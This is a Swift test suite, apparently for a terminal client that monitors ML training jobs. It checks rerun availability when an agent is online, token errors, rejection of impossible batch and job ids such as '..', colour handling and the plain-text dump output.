        // An agent counts as online for 12 s after its last poll (it polls at least every 10 s).
        let s = try TestServer(env: ["ARGUS_AGENT_ONLINE_S": "12"])
        let token = try s.token()
        let c = s.client(token)
        try Self.seedJob(c)
        try c.mustPost(Ev.make("job_done", batch: "b1", job: "j1", data: ["elapsed_s": 3]))
        try c.mustPost(Ev.make("batch_done", batch: "b1", source: ["project": "proj", "host": "gpu-box-7"]))
        let t = try tui(s, token, ["b1/j1"])
        try t.wait("Rerun refused: no agent") { $0.contains("✓ done") && $0.contains("[r] Rerun (no agent online") }
        t.send("r")
        try t.wait("the refusal, asked again") { $0.contains("Rerun is not available: no agent online for host gpu-box-7") }

        let state = FileManager.default.temporaryDirectory.appendingPathComponent("argus-agent-\(UUID().uuidString).json").path
        defer { try? FileManager.default.removeItem(atPath: state) }
        let (rc, _, err) = try runTool(
            Binaries.path("argus-agent"), ["register", "--url", s.url, "--token", token, "--hostname", "gpu-box-7", "--state-file", state])
        #expect(rc == 0, "\(err)")
        let agent = try startProcess(Binaries.path("argus-agent"), ["run", "--state-file", state], stderr: state + ".log")
        // Stopped below on purpose; this is for a wait that fails before then (an agent left polling for good).
        defer { _ = stopProcess(agent) }
        defer { try? FileManager.default.removeItem(atPath: state + ".log") }
        // No key pressed: the action bar catches up by itself.
        try t.wait(timeout: 10, "Rerun offered once the agent polls") { $0.contains("[r] Rerun  ") && !$0.contains("no agent online") }
        t.send("r")
        try t.wait("the confirmation") { $0.contains("Rerun batch b1 on its host, in /srv/run?") }
        t.send("n")
        try t.wait("cancelled") { $0.contains("Rerun cancelled.") }
        stopProcess(agent)
        try t.wait(timeout: 25, "Rerun refused again once the agent is gone") { $0.contains("[r] Rerun (no agent online") }
        t.send("q")
    }

    @Test("a bad token is one clear sentence and exit status 1")
    func badToken() throws {
        let s = try TestServer()
        let (rc, out, err) = try runTool(
            Binaries.path("argus-tui"), ["--url", s.url, "--token", "em_live_wrong", "b1/j1"])
        #expect(rc == 1)
        #expect(out.isEmpty)
        #expect(err.split(separator: "\n").count == 1)
        #expect(err.hasPrefix("argus-tui: the server rejected the token: "), "\(err)")
        let (rc2, _, err2) = try runTool(
            Binaries.path("argus-tui"), ["--url", s.url, "b1/j1"], env: ["ARGUS_TOKEN": ""])
        #expect(rc2 == 1)
        #expect(err2.contains("no token"))
        // `--token "$T"` with T unset is no token either, not a token the server rejects.
        let (rc3, _, err3) = try runTool(Binaries.path("argus-tui"), ["--url", s.url, "--token", "", "b1/j1"], env: ["ARGUS_TOKEN": ""])
        #expect(rc3 == 1 && err3.hasPrefix("argus-tui: no token: "), "\(err3)")
    }

    @Test("a target no batch or job can have ('/', '.', '..', 'x/..', 'a?b') is one sentence and exit 1, before any request")
    func impossibleTargets() throws {
        // Nothing listens on port 9: a target that got as far as a request would say "Cannot reach".
        let cases = [
            ("/", "a batch id cannot be empty."), ("/job", "a batch id cannot be empty."),
            (".", "a batch id cannot be '.' (browsers"), ("..", "a batch id cannot be '..' (browsers"),
            ("./x", "a batch id cannot be '.' (browsers"), ("x/..", "a job id cannot be '..' (browsers"),
            ("a?b", "a batch id cannot contain '?'."),
        ]
        for (target, reason) in cases {
            for args in [["--dump", target], [target], ["--export", "csv", target], ["--compare", "b/j,\(target)"]] {
                let (rc, out, err) = try runTool(
                    Binaries.path("argus-tui"), ["--url", "http://127.0.0.1:9"] + args, env: ["ARGUS_TOKEN": "t"])
                #expect(rc == 1 && out.isEmpty, "\(args)")
                #expect(err.hasPrefix("argus-tui: '\(target)' can name no batch or job: \(reason)"), "\(args): \(err)")
                #expect(err.split(separator: "\n").count == 1, "\(err)")
            }
        }
    }

    @Test("a share link whose ?job= no job can have, and --export or --compare given a share link, are one sentence before any request")
    func impossibleShareTargets() throws {
        for job in ["..", ".", "%2E%2E"] {
            let (rc, _, err) = try runTool(Binaries.path("argus-tui"), ["--dump", "http://127.0.0.1:9/share/sh_abc?job=\(job)"])
            #expect(rc == 1 && err.hasPrefix("argus-tui: the link's ?job= can name no job: a job id cannot be '"), "\(job): \(err)")
        }
        let (rc, _, err) = try runTool(Binaries.path("argus-tui"), ["--export", "csv", "http://127.0.0.1:9/share/sh_abc?job=j"])
        #expect(
            rc == 1 && err == "argus-tui: --export takes BATCH/JOB targets and a token; a share link only opens its read-only view.\n",
            "\(err)")
    }

    @Test("NO_COLOR turns colours off (attributes stay); without it the screen is coloured")
    func noColor() throws {
        let s = try TestServer()
        let token = try s.token()
        try Self.seedJob(s.client(token))
        let coloured = try tui(s, token, ["b1/j1"])
        try coloured.wait("live") { $0.contains("● live") }
        let withColour = coloured.capture(escapes: true)
        coloured.send("q")
        let plain = try tui(s, token, ["b1/j1"], env: ["NO_COLOR": "1"])
        try plain.wait("live") { $0.contains("● live") }
        let withoutColour = plain.capture(escapes: true)
        plain.send("q")
        let colourCode = #"\u001B\[[0-9;]*(3[0-7]|38;5;[0-9]+)[;m]"#
        #expect(withColour.range(of: colourCode, options: .regularExpression) != nil)
        #expect(withoutColour.range(of: colourCode, options: .regularExpression) == nil)
        #expect(
            withoutColour.contains("\u{1B}[1m") || withoutColour.contains(";1m")
                || withoutColour.contains("[1;"))
    }

    @Test("--dump prints one plain frame of the same screen, and the ASCII form with --ascii")
    func dump() throws {
        let s = try TestServer()
        let token = try s.token()
        try Self.seedJob(s.client(token), epochs: 10)
        let (rc, out, err) = try runTool(
            Binaries.path("argus-tui"), ["--dump", "--width", "100", "--height", "30", "b1/j1"],
            env: ["ARGUS_URL": s.url, "ARGUS_TOKEN": token])
        #expect(rc == 0, "\(err)")
        let lines = out.split(separator: "\n", omittingEmptySubsequences: false)
        #expect(lines.count >= 30)
        #expect(lines.allSatisfy { TextWidthCheck.columns(String($0)) <= 100 })
        #expect(!out.contains("\u{1B}"))
        #expect(
            out.contains("STATUS") && out.contains("1━train_loss")
                && out.contains("command python train.py --epochs 50"))
        let (rc2, ascii, _) = try runTool(
            Binaries.path("argus-tui"), ["--dump", "--ascii", "b1/j1"],
            env: ["ARGUS_URL": s.url, "ARGUS_TOKEN": token])
        #expect(rc2 == 0)
        #expect(ascii.unicodeScalars.allSatisfy { $0.value < 0x7F })
        let (rc3, picker, _) = try runTool(
            Binaries.path("argus-tui"), ["--dump"], env: ["ARGUS_URL": s.url, "ARGUS_TOKEN": token])
        #expect(rc3 == 0)
        #expect(picker.contains("recent batches") && picker.range(of: #"● running +b1"#, options: .regularExpression) != nil)
        // More batches than the picker lists: it says so, and a filter that finds none says where it looked. The
        // server lists the going ones first, so 500 newer running ones push out b1.
        let newer: [JSON] = (0..<BatchRow.listLimit).map { Ev.make("batch_start", batch: "sweep-\($0)") }
        #expect(try s.client(token).post("/api/events/batch", json: ["events": .array(newer)]).status == 200)
        let many = try tui(s, token, [])
        try many.wait("the cut list") { $0.contains("recent batches: the first \(BatchRow.listLimit), going ones first") }
        many.send("/")
        many.send("b1")
        try many.wait("the filter's answer") { $0.contains("No batch matches 'b1' among the \(BatchRow.listLimit) listed") }
        many.send("q")
        let (rc4, _, err4) = try runTool(
            Binaries.path("argus-tui"), ["--dump", "b1/nope"],
            env: ["ARGUS_URL": s.url, "ARGUS_TOKEN": token])
        #expect(rc4 == 1)
        #expect(err4.contains("not found"))
    }
}

enum TextWidthCheck {
    static func columns(_ s: String) -> Int { s.unicodeScalars.count }
}
